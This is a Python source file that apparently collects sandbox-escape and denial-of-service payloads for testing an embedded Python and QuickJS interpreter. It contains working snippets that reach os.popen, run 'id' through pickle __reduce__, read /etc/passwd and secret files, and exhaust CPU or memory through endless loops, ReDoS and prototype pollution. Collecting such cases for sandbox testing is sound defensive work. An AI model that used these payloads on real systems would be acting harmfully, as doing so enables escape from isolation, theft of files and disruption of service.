"""Attacks on an interpreter from within, in Python and in JavaScript."""

LANGUAGE = {
    "subclasses_walk": """
def main(secret, **known):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == '_wrap_close':
            return [c.__init__.__globals__['popen']('id').read()]
    return []
""",
    "mro_to_builtins": """
def main(secret, **known):
    found = [c for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == 'catch_warnings']
    return [found[0]()._module.__builtins__['open'](secret).read()]
""",
    "function_globals": """
def main(secret, **known):
    return [main.__globals__['__builtins__']['open'](secret).read()]
""",
    "generator_frame": """
def main(secret, **known):
    g = (g.gi_frame.f_back.f_back for _ in [1])
    frame = [x for x in g][0]
    while frame.f_back is not None:
        frame = frame.f_back
    return [frame.f_globals['__builtins__'].open(secret).read()]
""",
    "traceback_frame": """
def main(secret, **known):
    try:
        1 / 0
    except Exception as e:
        frame = e.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        return [frame.f_builtins['open'](secret).read()]
""",
    "format_string": """
def main(secret, **known):
    text = '{0.__class__.__base__}'.format(main)
    return [text] if 'HUNTER2' in text else []
""",
    "format_map": """
def main(secret, **known):
    text = '{f.__globals__}'.format_map({'f': main})
    return [text] if 'HUNTER2' in text else []
""",
    "decorator_exec": """
@exec
@"open('/etc/passwd').read()".format
class X: pass
def main(**known):
    return []
""",
    "async_generator_frame": """
def main(secret, **known):
    async def f():
        yield 1
    return [f().ag_frame.f_builtins['open'](secret).read()]
""",
    "coroutine_frame": """
def main(secret, **known):
    async def f():
        pass
    c = f()
    return [c.cr_frame.f_builtins['open'](secret).read()]
""",
    "reduce": """
import pickle
class Bad:
    def __reduce__(self):
        import os
        return os.system, ('id',)
def main(secret, **known):
    pickle.loads(pickle.dumps(Bad()))
    return []
""",
    "exception_group": """
def main(secret, **known):
    try:
        try:
            raise ExceptionGroup('g', [ValueError(1)])
        except* ValueError as e:
            raise e
    except Exception as e:
        return [e.__traceback__.tb_frame.f_builtins['open'](secret).read()]
""",
    "import_through_a_library": "import random\ndef main(**known):\n    return [random._os.popen('id').read()]\n",
    "import_by_hand": "def main(secret, **known):\n    return [__import__('os').popen('cat ' + secret).read()]\n",
    "eval_source": "def main(secret, **known):\n    return [eval('open(%r).read()' % secret)]\n",
    "code_object": """
def main(secret, **known):
    code = main.__code__.replace(co_consts=(None, secret))
    return [type(main)(code, {})(secret=secret)]
""",
    "type_builder": """
def main(secret, **known):
    kind = type('X', (object,), {'__getattr__': lambda self, name: open(secret).read()})
    return [kind().anything]
""",
    "breakpoint": "def main(**known):\n    breakpoint()\n    return []\n",
    "garbage_collector": """
import gc
def main(secret, **known):
    return [o['HUNTER2'] for o in gc.get_objects() if isinstance(o, dict) and 'HUNTER2' in o]
""",
    "loader_of_main": """
def main(secret, **known):
    import sys
    return [sys.modules['__main__'].open(secret).read()]
""",
    "match_attributes": """
def main(secret, **known):
    match main:
        case object(__globals__=g):
            return [g['__builtins__']['open'](secret).read()]
    return []
""",
    "comprehension_leak": "def main(secret, **known):\n    return [x.__self__.open(secret).read() for x in [len]]\n",
    "string_formatter": """
import string
def main(secret, **known):
    value, _ = string.Formatter().get_field('a.__globals__', (), {'a': main})
    return [value['__builtins__'].open(secret).read()]
""",
    "type_of_type": """
def main(secret, **known):
    last = type.__getattribute__(type, '__subclasses__')(object)[-1]
    return [last.__init__.__globals__['sys'].modules['os'].popen('id').read()]
""",
}
"""Walks from harmless values to the interpreter's insides, where a filter is the only guard."""

JAVASCRIPT = {
    "constructor_walk": "function main(k) { return [typeof ({}).constructor.constructor('return process')().env] }",
    "require": "function main(k) { return [require('fs').readFileSync(k.secret, 'utf8')] }",
    "std_module": "function main(k) { return [std.loadFile(k.secret)] }",
    "dynamic_import": "function main(k) { import('os'); return [] }",
    "endless_loop": "function main(k) { for (;;) {} }",
    "endless_jobs": "function main(k) { const f = () => Promise.resolve().then(f); f(); for (;;) {} }",
    "memory": "function main(k) { const held = []; for (;;) held.push(new Array(1e5).fill(1)) }",
    "long_string": "function main(k) { let s = 'x'; for (;;) s += s }",
    "recursion": "function main(k) { return main(k) }",
    "regular_expression": "function main(k) { return /(a+)+$/.test('a'.repeat(40) + 'b') ? ['yes'] : [] }",
    "flood": "function main(k) { for (;;) console.log('x'.repeat(4096)) }",
    "prototype": "Object.prototype.toJSON = () => { for (;;) {} }; function main(k) { return {} }",
    "stolen_ask": "function main(k) { return Object.keys(globalThis).filter(n => /^__(?!arguments)/.test(n)) }",
}
"""On QuickJS and what it is embedded in."""
